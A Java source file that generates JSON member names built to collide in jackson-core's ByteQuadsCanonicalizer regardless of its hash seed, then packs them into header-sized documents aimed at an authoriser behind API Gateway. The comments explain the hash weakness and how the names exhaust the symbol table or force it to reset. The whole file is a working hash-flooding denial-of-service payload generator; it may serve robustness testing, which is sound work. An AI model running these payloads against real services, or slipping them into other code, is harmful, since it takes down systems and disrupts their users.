package authoriser.json;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Makes lists of member names that fill jackson-core's table of names until it refuses new ones.
 *
 * <p>The table is {@code ByteQuadsCanonicalizer}. It takes a name as numbers of four bytes each.
 * The hash mixes the first three numbers with a secret seed. From the fourth on it only adds {@code
 * q ^ (q >> 21)} to what it has. So two names have the same hash, whatever the seed is, if their
 * first 12 bytes are the same and the sums of the rest are. In {@code a?aa} the shift changes the
 * last two bytes only, and by the same bits for each lower-case letter: the sum of several such
 * numbers depends on the sum of these letters alone.
 *
 * <p>Names with one hash first use up their own places, then those of their neighbours, then an
 * overflow area that all names share. When that is full, a new name that finds its places taken is
 * an error. The table is emptied when it holds more than 6,000 names, and with it the names that
 * good documents need.
 */
public final class CollidingNames {
    /** What fits, as an unsigned token's payload, into the headers that API Gateway takes. */
    private static final int DOCUMENT_BYTES = 7_400;

    private static final String LETTERS = "abcdefghijklmnopqrstuvwxyz";
    private static final int SUM = 50; // of four letters, each counted from 0: the most frequent

    private final Random random;

    /** Makes a generator that gives the same names for the same seed. */
    public CollidingNames(long seed) {
        random = new Random(seed);
    }

    /** The names of the documents of one round, in the order in which they do harm. */
    public List<List<String>> round() {
        List<List<String>> documents = new ArrayList<>();
        for (int i = 6; i > 0; i--) {
            documents.add(List.copyOf(different(860)));
        }
        List<String> colliding = new ArrayList<>();
        for (int i = 0; i < 220; i++) {
            colliding.addAll(family(2));
        }
        for (int i = 0; i < 40; i++) {
            colliding.addAll(family(18));
        }
        colliding.addAll(family(2_200));
        int inOne = DOCUMENT_BYTES / (colliding.getFirst().length() + "\"\":0,".length());
        for (int i = 0; i < colliding.size(); i += inOne) {
            documents.add(colliding.subList(i, Math.min(i + inOne, colliding.size())));
        }
        return documents;
    }

    /** A JSON object with these names. */
    public static String object(List<String> names) {
        return "{\"" + String.join("\":0,\"", names) + "\":0}";
    }

    public Set<String> different(int count) {
        Set<String> names = new LinkedHashSet<>();
        while (names.size() < count) {
            names.add(letters(3));
        }
        return names;
    }

    private List<String> family(int size) {
        String prefix = letters(12);
        List<String> names = new ArrayList<>();
        for (int i = 0; names.size() < size; i++) {
            int a = i % 26;
            int b = i / 26 % 26;
            int c = i / 676;
            int d = SUM - a - b - c;
            if (d >= 0 && d < 26) {
                names.add(prefix + quad(a) + quad(b) + quad(c) + quad(d));
            }
        }
        return names;
    }

    private static String quad(int letter) {
        return "a" + LETTERS.charAt(letter) + "aa";
    }

    private String letters(int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(LETTERS.charAt(random.nextInt(26)));
        }
        return text.toString();
    }
}
